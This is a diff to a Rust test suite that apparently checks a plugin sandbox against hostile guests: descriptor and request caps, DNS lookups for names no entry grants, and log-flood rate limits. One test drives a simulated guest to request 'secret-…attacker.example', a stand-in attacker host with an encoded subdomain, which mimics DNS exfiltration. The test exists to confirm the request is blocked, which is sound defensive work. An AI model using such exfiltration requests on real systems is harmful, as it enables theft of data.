@@ -652,11 +652,9 @@ fn open_files_stop_at_the_descriptor_limit() {
     seen.assert_call_bounded();
     let (ok, detail) = seen.report();
     assert!(!ok && detail.contains("\"quota\""), "{detail}");
-    // The granted directory itself is one of the instance's descriptors.
-    assert!(
-        detail.contains(&format!("file {}:", DESCRIPTORS - 1)),
-        "{detail}"
-    );
+    // The granted directory is the instance's own (one descriptor however many handles
+    // on it the guest asks for): 32 files, then refused.
+    assert!(detail.contains(&format!("file {DESCRIPTORS}:")), "{detail}");
     seen.assert_host_bounded(32 << 10, DESCRIPTORS + HOST_FDS);
     seen.assert_victim_kept_pace();
 }
@@ -726,10 +724,10 @@ fn requests_are_capped_and_end_with_the_call_that_started_them() {
         detail.contains(&format!("request {DESCRIPTORS}:")),
         "{detail}"
     );
+    let accepted = server.accepted.load(Ordering::SeqCst);
     assert!(
-        server.accepted.load(Ordering::SeqCst) <= DESCRIPTORS,
-        "{} connections reached the server",
-        server.accepted.load(Ordering::SeqCst)
+        (1..=DESCRIPTORS).contains(&accepted),
+        "{accepted} connections reached the server (the guest waited for them to connect)"
     );
     // The call has returned (its report is logged): its connections are closed.
     let closed_by = Instant::now() + Duration::from_secs(2);
@@ -755,17 +753,21 @@ fn a_name_no_entry_names_is_never_looked_up() {
     let _serial = one_at_a_time();
     let dns = FakeDns::start(Answer::With("127.0.0.1".parse().expect("ip")));
     let server = HttpServer::start(Mode::Ok);
-    let seen = attack(
-        &Setup {
-            sandbox: &format!("http = [\"http://127.0.0.1:{}\"]\n", server.addr.port()),
-            dns: Some(&dns),
-            ..Setup::default()
-        },
+    let mut host = Host::start(&Setup {
+        sandbox: &format!(
+            "http = [\"http://127.0.0.1:{}\"]\ntcp = [\"*.dnscheck.example:80\"]\n",
+            server.addr.port()
+        ),
+        dns: Some(&dns),
+        ..Setup::default()
+    });
+    let seen = host.observe(
         "http-get",
         &[format!(
             "hostile:http-get:http://secret-73686f616c.attacker.example:{}/",
             server.addr.port()
         )],
+        Duration::from_secs(30),
     );
     seen.assert_call_bounded();
     let (ok, detail) = seen.report();
@@ -782,6 +784,22 @@ fn a_name_no_entry_names_is_never_looked_up() {
     );
     assert!(server.received().is_empty(), "a request reached the server");
     seen.assert_host_bounded(32 << 10, HOST_FDS);
+    // The same host's lookup of a granted name does reach this resolver: the silence
+    // above is the host's, not a resolver it bypassed.
+    host.observe(
+        "lookups",
+        &["hostile:lookups:1:dnscheck.example".into()],
+        Duration::from_secs(30),
+    );
+    let settled = Instant::now() + Duration::from_secs(5);
+    while !dns.queries().iter().any(|q| q == "n0.dnscheck.example") {
+        assert!(
+            Instant::now() < settled,
+            "a granted lookup never reached the test's resolver: {:?}",
+            dns.queries()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
 }
 
 /// Finding: lookups starved other shards. Lookups ran on the blocking pool that runs
@@ -894,9 +912,10 @@ fn guest_lines_of_attacker(log: &str) -> usize {
 }
 
 /// Finding: log flooding. `log`, stdout and refusal warnings had no rate limit (and the
-/// refusal de-duplication was cleared every 256 entries): 200,000 lines each reached the
-/// log. Now an instance logs at most its burst (1,000) plus 100 lines a second, the rest
-/// is counted and said in one line.
+/// refusal de-duplication was cleared every 256 entries): tens of thousands of lines
+/// reached the log from one call. Now an instance logs at most its burst (1,000) plus 100
+/// lines a second, the rest counted and said in one line; and warns of 64 distinct
+/// refusals at most.
 #[test]
 fn log_lines_are_rate_limited_per_instance() {
     let _serial = one_at_a_time();
@@ -913,6 +932,7 @@ fn log_lines_are_rate_limited_per_instance() {
                 .filter(|l| l.contains(ATTACKER) && l.contains("shoal::sandbox"))
                 .count();
         let attacked = Instant::now();
+        let log_from = host.log().len();
         let seen = host.observe(name, &[marker.into()], Duration::from_secs(30));
         seen.assert_call_bounded();
         let log = host.log();
@@ -927,10 +947,14 @@ fn log_lines_are_rate_limited_per_instance() {
             "{name}: {} lines logged, more than the burst plus the rate allow ({allowed})",
             after - before
         );
-        assert!(
-            log.contains("guest log lines suppressed: over plugin.limits.log_rate"),
-            "{name}: no suppressed-lines summary"
-        );
+        // Past the burst, each flood is summarised in its own line; the refusal warnings
+        // stop earlier, at 64 distinct ones (the rest go to debug level).
+        if name != "refused-lookups" {
+            assert!(
+                log[log_from..].contains("guest log lines suppressed: over plugin.limits.log_rate"),
+                "{name}: no suppressed-lines summary"
+            );
+        }
         seen.assert_victim_kept_pace();
     }
     let suppressed = host
